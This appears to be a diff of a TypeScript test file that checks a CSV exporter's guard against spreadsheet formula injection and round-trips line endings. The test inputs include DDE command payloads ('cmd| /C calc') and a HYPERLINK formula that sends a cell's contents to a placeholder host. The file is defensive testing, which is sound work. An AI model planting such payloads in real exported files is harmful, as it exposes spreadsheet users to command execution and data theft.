@@ -35,15 +35,18 @@ describe('the separator', () => {
 })
 
 /** How a sheet takes a cell: as a formula by its first character, unless all of it is a number. Told apart from the rule it tests: here digits and their marks alone are a number. */
-const runsAsFormula = (cell: string): boolean => '=+-@\t\r'.includes(cell.charAt(0) || ' ') && !(cell.length > 1 && '+-'.includes(cell.charAt(0)) && !/[^0-9.,]/.test(cell.slice(1)))
+const runsAsFormula = (cell: string): boolean => '=+-@\t\r\n'.includes(cell.charAt(0) || ' ') && !(cell.length > 1 && '+-'.includes(cell.charAt(0)) && !/[^0-9.,]/.test(cell.slice(1)))
 
 describe('what we write we read', () => {
-  const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '=', '+', '-', '@', '\t', "'", ' ', '1', ';', '|', 'न', '₹'), maxLength: 12 })
-  test('any table comes back as it was, formula guards and all', () => {
+  const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '=', '+', '-', '@', '\t', "'", ' ', '1', ';', '|', 'न', '₹'), maxLength: 12 })
+  test('any table comes back as it was, formula guards and all; line ends come back as line feeds, whatever they were, and nothing else is lost', () => {
     fc.assert(fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
       const filled = rows.map((row) => ['x', ...row])
-      expect(read(filled.map(csvLine).join('')).map((cells) => cells.map(unguarded))).toEqual(filled)
+      expect(read(filled.map(csvLine).join('')).map((cells) => cells.map(unguarded))).toEqual(filled.map((row) => row.map((text) => text.replace(/\r\n?/g, '\n'))))
     }), { numRuns: 10_000 })
+  })
+  test.each([['\rHostel', '\nHostel'], ['\r\nHostel', '\nHostel'], ["'\rHostel", "'\nHostel"], ["'\nHostel", "'\nHostel"], ['\r=1+1', '\n=1+1']])('%j comes back as %j: no apostrophe of ours stays before it, and none of its own is lost', (written, back) => {
+    expect(read(csvLine(['x', written])).map((cells) => cells.map(unguarded))).toEqual([['x', back]])
   })
   test('[R56] a sheet runs none of our cells: one that begins as a formula is a number to its end, whatever it is read from', () => {
     const written = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '\t', '=', '+', '-', '@', "'", ' ', '1', '0', '.', ';', '|', '!', '(', ')', 'E', 'cmd', '₹'), maxLength: 12 })
@@ -54,7 +57,7 @@ describe('what we write we read', () => {
     }), { numRuns: 10_000 })
   })
   test.each([
-    '=1+1', '@a', '+91 44 2257', '=cmd|\' /C calc\'!A0', '-1+cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!D2', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '\t=1+1', '\r=1+1', '\r\n=1+1', "'=1+1", '-1E5+A1', '+-1', '-', '-(1)',
+    '=1+1', '@a', '+91 44 2257', '=cmd|\' /C calc\'!A0', '-1+cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!D2', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '\t=1+1', '\r=1+1', '\r\n=1+1', '\n=1+1', "'=1+1", '-1E5+A1', '+-1', '-', '-(1)',
   ])('%j is written with an apostrophe before it', (text) => {
     expect(runsAsFormula(text) || text.startsWith("'")).toBe(true)
     expect(guarded(text)).toBe(`'${text}`)
